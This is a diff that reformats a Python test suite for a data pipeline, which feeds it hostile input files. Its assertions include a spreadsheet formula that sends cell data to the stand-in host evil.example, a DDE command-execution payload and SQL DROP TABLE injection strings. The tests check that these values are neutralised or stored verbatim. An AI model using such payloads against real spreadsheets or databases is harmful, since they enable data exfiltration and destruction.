@@ -6,6 +6,7 @@ expected.csv lists each file with its exit code, and for a file-level refusal it
 for row-level failures the (row_number, error_code) pairs and the number of rows that succeed. Files
 marked generated are written by make_corpus.py (too big or too binary to commit).
 """
+
 from __future__ import annotations
 
 import csv
@@ -23,7 +24,7 @@ from pipeline.audit import audit_store
 from pipeline.cli import main
 from pipeline.read import REQUEST_COLUMNS, read_requests
 from pipeline.report import FORMULA_PREFIXES
-from pipeline.store import init_store, export_store
+from pipeline.store import export_store, init_store
 
 ROOT = Path(__file__).resolve().parents[1]
 ORG = ROOT / "sample_data" / "org.toml"
@@ -44,13 +45,19 @@ class Expected:
 
 def load_expected() -> list[Expected]:
     with open(CORPUS / "expected.csv", newline="", encoding="utf-8") as handle:
-        return [Expected(
-            file=r["file"], generated=r["generated"] == "yes", exit_code=int(r["exit_code"]),
-            error_code=int(r["error_code"]) if r["error_code"] else None,
-            line=int(r["line"]) if r["line"] else None,
-            row_errors=[(int(n), int(c)) for n, c in (p.split(":") for p in r["row_errors"].split(";") if p)],
-            applied=int(r["applied"]) if r["applied"] else None, shows=r["shows"])
-            for r in csv.DictReader(handle)]
+        return [
+            Expected(
+                file=r["file"],
+                generated=r["generated"] == "yes",
+                exit_code=int(r["exit_code"]),
+                error_code=int(r["error_code"]) if r["error_code"] else None,
+                line=int(r["line"]) if r["line"] else None,
+                row_errors=[(int(n), int(c)) for n, c in (p.split(":") for p in r["row_errors"].split(";") if p)],
+                applied=int(r["applied"]) if r["applied"] else None,
+                shows=r["shows"],
+            )
+            for r in csv.DictReader(handle)
+        ]
 
 
 EXPECTED = load_expected()
@@ -86,14 +93,18 @@ def exported(store: Path, out: Path) -> dict[str, bytes]:
 
 
 def run_cli(store: Path, reports: Path, request: Path):
-    return CliRunner().invoke(main, ["run", "--store", str(store), "--config", str(ORG),
-                                     "--reports", str(reports), str(request)])
+    return CliRunner().invoke(
+        main, ["run", "--store", str(store), "--config", str(ORG), "--reports", str(reports), str(request)]
+    )
 
 
 def test_corpus_is_complete():
     names = {e.file for e in EXPECTED}
-    committed = {p.name for p in CORPUS.iterdir() if p.name not in ("expected.csv", "make_corpus.py")
-                 and not p.name.startswith((".", "__"))}
+    committed = {
+        p.name
+        for p in CORPUS.iterdir()
+        if p.name not in ("expected.csv", "make_corpus.py") and not p.name.startswith((".", "__"))
+    }
     generated = set(make_corpus_module().GENERATED)
     assert len(names) >= 20
     assert committed | generated == names, "every corpus file has exactly one expected outcome"
@@ -135,13 +146,15 @@ def test_hostile_file(expected, corpus, base_store, tmp_path):
 
     valid_rows_only = tmp_path / "valid.parquet"
     keep = [int(n) for n in success["row_number"]]
-    read_requests([request]).frame.filter(pl.col("row_number").is_in(keep)).select(REQUEST_COLUMNS) \
-        .write_parquet(valid_rows_only)
+    read_requests([request]).frame.filter(pl.col("row_number").is_in(keep)).select(REQUEST_COLUMNS).write_parquet(
+        valid_rows_only
+    )
     reference = tmp_path / "reference.duckdb"
     shutil.copy(source_store, reference)
     assert run_cli(reference, tmp_path / "reference-reports", valid_rows_only).exit_code == 0
-    assert exported(store, tmp_path / "after") == exported(reference, tmp_path / "reference-export"), \
+    assert exported(store, tmp_path / "after") == exported(reference, tmp_path / "reference-export"), (
         "the file changed the store exactly as its valid rows alone do"
+    )
     if not expected.applied:
         assert exported(store, tmp_path / "after-again") == before
 
@@ -160,7 +173,7 @@ def test_formula_values_are_neutralised_in_reports(corpus, base_store, tmp_path)
     assert run_cli(store, tmp_path / "r", corpus["formula_values.csv"]).exit_code == 1
     success = pl.read_csv(tmp_path / "r" / "success.csv", infer_schema=False)
     errors = pl.read_csv(tmp_path / "r" / "errors.csv", infer_schema=False)
-    assert success["row_id"].to_list() == ["'=HYPERLINK(\"http://evil.example/?\"&A1)", "'+cmd|' /C calc'!A0"]
+    assert success["row_id"].to_list() == ['\'=HYPERLINK("http://evil.example/?"&A1)', "'+cmd|' /C calc'!A0"]
     assert success["id_value"].to_list() == ["'=1+1", "'-2+3"]
     assert errors["row_id"].to_list() == ["'@SUM(A1:A9)", "'\tf4"]
 
@@ -171,9 +184,12 @@ def test_sql_looking_values_are_stored_verbatim(corpus, base_store, tmp_path):
     assert run_cli(store, tmp_path / "r", corpus["sql_values.csv"]).exit_code == 1
     con = duckdb.connect(str(store), read_only=True)
     try:
-        held = con.execute("SELECT customer_id, id_type, id_value FROM identifiers WHERE id_value LIKE '%DROP%'"
-                           " ORDER BY customer_id").fetchall()
+        held = con.execute(
+            "SELECT customer_id, id_type, id_value FROM identifiers WHERE id_value LIKE '%DROP%' ORDER BY customer_id"
+        ).fetchall()
     finally:
         con.close()
-    assert held == [(1011, "externalId", "Robert');DROP_TABLE_cards;--"),
-                    (1025, "wechat", "x'); DROP TABLE identifiers;--")]
+    assert held == [
+        (1011, "externalId", "Robert');DROP_TABLE_cards;--"),
+        (1025, "wechat", "x'); DROP TABLE identifiers;--"),
+    ]
